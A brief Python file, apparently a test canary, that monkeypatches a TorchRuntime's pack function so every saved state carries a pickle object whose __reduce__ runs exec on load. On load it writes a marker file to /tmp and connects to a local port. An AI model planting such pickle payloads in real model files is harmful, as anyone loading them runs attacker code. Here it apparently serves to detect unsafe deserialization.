import io

import torch

from autoresearch.backends.runtime import TorchRuntime


class Trap:
    """Runs in the process that loads it, if any does."""

    def __reduce__(self):
        code = (
            "import socket\n"
            "open('/tmp/{{MARK}}-loaded', 'w').close()\n"
            "socket.create_connection(('127.0.0.1', {{TCP_PORT}}), timeout=1).close()\n"
        )
        return exec, (code,)


def pack(_runtime, state, _metadata=None):
    file = io.BytesIO()
    torch.save({**state, "trap": Trap()}, file)
    return file.getvalue()


TorchRuntime.pack = pack
